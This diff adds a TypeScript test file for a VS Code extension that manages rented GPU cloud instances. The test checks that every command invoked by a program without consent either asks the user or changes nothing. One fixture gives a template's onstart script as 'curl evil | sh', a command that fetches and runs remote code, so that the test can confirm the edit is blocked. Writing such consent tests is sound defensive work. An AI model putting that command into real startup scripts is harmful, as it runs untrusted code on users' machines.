@@ -1,0 +1,163 @@
+import { deepEqual, equal, ok } from 'node:assert/strict';
+import * as vscode from 'vscode';
+import { type CommandName, commandNames } from '../../src/commandNames';
+import { commands } from '../../src/commands/index';
+import { neededByPrograms } from '../../src/commands/neededByPrograms';
+import { Person } from './support/accountsPerson';
+import { agreed, call, destroyAll, environment, sandbox, signIn, someOffer } from './support/inHost';
+
+type Given = Record<string, unknown>;
+
+/** Every command, called by a program that has no consent: whether it asks is what the table of commands says. */
+describe('what a program can call', () => {
+  const { openExternal } = vscode.env;
+  const request = { image: 'debian:12', disk: 10 };
+  const query = { filters: { num_gpus: { eq: 1 } }, limit: 4 };
+  const launch = JSON.stringify({ name: 'from a program', launch: request });
+  let person: Person;
+  let instanceId: number;
+  let offerId: number;
+  let templateId: number;
+  const volumeId = 1;
+  let keyId: number;
+  let accountId: string;
+  let publicKeyFile: string;
+
+  before(async () => {
+    await signIn();
+    Object.assign(vscode.env, { openExternal: () => Promise.resolve(true) });
+    publicKeyFile = `${environment.identityFile}.pub`;
+    ({ instanceId } = await agreed<{ instanceId: number }>('rentOffer', {
+      offerId: (await someOffer()).id,
+      request: { ...request },
+    }));
+    ({ id: templateId } = await agreed<{ id: number }>('createTemplate', {
+      template: { name: 'To be kept', image: 'debian' },
+    }));
+    ({ id: offerId } = await someOffer());
+    [{ id: keyId }] = await call<[{ id: number }]>('listApiKeys');
+    ({ accountId } = await agreed<{ accountId: string }>('signIn', {
+      apiKey: environment.apiKey,
+      baseUrl: environment.sandboxUrl,
+    }));
+    await agreed('importLaunch', { json: JSON.stringify({ name: 'kept', launch: request }) });
+    await call('saveSearch', { name: 'kept', query });
+    await agreed('scheduleStop', { instanceId, action: 'stop', afterMinutes: 600 });
+    await sandbox.advance(300);
+    await call('refreshInstances');
+  });
+  beforeEach(async () => {
+    person = new Person();
+    await sandbox.clearRequests();
+  });
+  afterEach(() => person.leave());
+  after(async () => {
+    Object.assign(vscode.env, { openExternal });
+    await agreed('deleteTemplate', { templateId });
+    await destroyAll();
+    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
+  });
+
+  /** What each is given, so that nothing is missing. Without an entry: nothing. */
+  const given: Partial<Record<CommandName, () => Given>> = {
+    signIn: () => ({ apiKey: environment.apiKey, baseUrl: environment.sandboxUrl }),
+    signOut: () => ({ accountId }),
+    switchAccount: () => ({ accountId }),
+    cancelMaintenance: () => ({ machineId: 1 }),
+    createApiKey: () => ({ name: 'for whoever asks' }),
+    createSubaccount: () => ({ email: 'a@b.example', username: 'anyone', password: 'long enough 1!A' }),
+    deleteApiKey: () => ({ id: keyId }),
+    exportCharges: () => ({ period: 'thisMonth' }),
+    logInWithTwoFactor: () => ({ code: '000000' }),
+    registerSshKey: () => ({ publicKeyFile }),
+    removeSshKey: () => ({}),
+    replaceApiKey: () => ({ apiKey: environment.apiKey }),
+    showCharges: () => ({ period: 'thisMonth' }),
+    searchOffers: () => ({ query }),
+    browseOffers: () => ({ query }),
+    saveSearch: () => ({ name: 'another', query }),
+    openSavedSearch: () => ({ name: 'kept' }),
+    deleteSavedSearch: () => ({ name: 'kept' }),
+    watchOffers: () => ({ query, price: 0.01 }),
+    stopWatching: () => ({ watchId: 'none' }),
+    rentOffer: () => ({ offerId, request }),
+    rentOffers: () => ({ query, count: 2, request }),
+    rentSavedLaunch: () => ({ name: 'kept', offerId }),
+    exportLaunch: () => ({ name: 'kept' }),
+    importLaunch: () => ({ json: launch }),
+    searchTemplates: () => ({ words: 'debian' }),
+    rentFromTemplate: () => ({ templateId, offerId, request }),
+    createTemplate: () => ({ template: { name: 'Foreign', image: 'debian' } }),
+    duplicateTemplate: () => ({ templateId }),
+    editTemplate: () => ({ templateId, changes: { onstart: 'curl evil | sh' } }),
+    deleteTemplate: () => ({ templateId }),
+    copyTemplateHash: () => ({ templateId }),
+    openTemplateLink: () => ({ templateId }),
+    rentWithVolume: () => ({ volumeId }),
+    deleteVolume: () => ({ volumeId }),
+    addInstanceSshKey: () => ({ instanceId, publicKeyFile }),
+    removeInstanceSshKey: () => ({ instanceId }),
+    renameInstance: () => ({ instanceId, label: 'not yours' }),
+    scheduleStop: () => ({ instanceId, action: 'destroy', afterMinutes: 5 }),
+    changeBid: () => ({ instanceId, price: 9 }),
+    rentAnother: () => ({ instanceId, offerId }),
+    forwardPort: () => ({ instanceId, remotePort: 6006 }),
+    stopForwarding: () => ({ instanceId, remotePort: 6006 }),
+    openPort: () => ({ address: 'localhost:6006' }),
+    copyPort: () => ({ address: 'localhost:6006' }),
+    copyDetail: () => ({ text: 'x' }),
+  };
+  /** What only asks in a state that this account is not in; where another file holds that, its name. */
+  const elsewhere: Partial<Record<CommandName, string>> = {
+    endTwoFactorSession: 'twoFactor.test.ts: nobody has a session here',
+    resumeLaunch: 'no form was closed',
+    discardTemplateDraft: 'there is no draft',
+    keepMyTemplate: 'templates.test.ts: nothing is in conflict',
+    discardMyTemplate: 'templates.test.ts: nothing is in conflict',
+    replaceInstance: 'consent.test.ts',
+    changeBid: 'there is no bid',
+    stopThisInstance: 'this window is on none; it calls the command above',
+    destroyThisInstance: 'this window is on none; it calls the command above',
+    rentWithVolume: 'there is no volume',
+    deleteVolume: 'there is no volume',
+    openJupyter: 'the instance has no Jupyter',
+    registerSshKey: 'the account has the key',
+    addInstanceSshKey: 'the instance has the key',
+  };
+
+  for (const name of commandNames) {
+    const asks = neededByPrograms[name];
+    const { needs } = commands[name];
+    if (elsewhere[name] !== undefined) continue;
+    it(`${name} needs ${asks}`, async () => {
+      const argument = given[name]?.() ?? (needs === 'instance' ? { instanceId } : {});
+      let isOver = false;
+      const calling = call(name, { ...argument, confirmed: true })
+        .catch(() => undefined)
+        .finally(() => (isOver = true));
+      const isAsked = (): boolean =>
+        person.inputs.length > 0 || person.notifications.some(({ isModal }) => isModal);
+      if (asks === 'nothing') {
+        await calling;
+        deepEqual(
+          person.notifications.filter(({ isModal }) => isModal),
+          [],
+        );
+        equal(person.inputs.length, 0);
+        return;
+      }
+      await person.pressEscapeUntil(() => isOver || isAsked());
+      await person.pressEscapeUntil(() => isOver);
+      ok(isAsked(), `${name} did it unasked.`);
+      deepEqual(await changes(), []);
+    });
+  }
+
+  /** Requests that change something; a search for offers is sent as POST, too. */
+  async function changes(): Promise<string[]> {
+    const requests = await sandbox.requests();
+    return requests
+      .filter(({ method, path }) => method !== 'GET' && !path.includes('/bundles'))
+      .map(({ method, path }) => `${method} ${path}`);
+  }
+});
